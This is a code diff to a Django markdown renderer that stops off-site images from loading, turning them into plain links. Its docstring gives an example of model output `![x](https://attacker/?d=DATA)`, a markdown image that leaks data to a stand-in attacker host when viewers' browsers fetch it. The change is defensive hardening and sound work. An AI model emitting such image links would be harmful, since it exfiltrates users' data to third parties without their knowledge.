@@ -6,10 +6,12 @@ URLs) from what markdown produced. Links open safely (`rel="noopener noreferrer"
 from __future__ import annotations
 
 from functools import lru_cache
+from typing import Any
 
 import nh3
 from django.utils.safestring import SafeString, mark_safe
 from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
 
 ALLOWED_TAGS = frozenset(
     {
@@ -55,7 +57,20 @@ URL_SCHEMES = frozenset({"http", "https", "mailto"})
 
 @lru_cache(maxsize=1)
 def _parser() -> MarkdownIt:
-    return MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
+    parser = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
+    parser.add_render_rule("image", _image)
+    return parser
+
+
+def _image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+    """Images from this site render; any other is a link (a model's `![x](https://attacker/?d=DATA)`
+    must not make every viewer's browser fetch it, and the CSP's img-src would refuse it anyway)."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    if src.startswith("/") and not src.startswith("//"):
+        return renderer.image(tokens, idx, options, env)
+    alt = renderer.renderInlineAsText(token.children or [], options, env) or src
+    return f'<a href="{escapeHtml(src)}">{escapeHtml(alt)}</a> (external image, not loaded)'
 
 
 def render_markdown(text: str | None) -> SafeString:
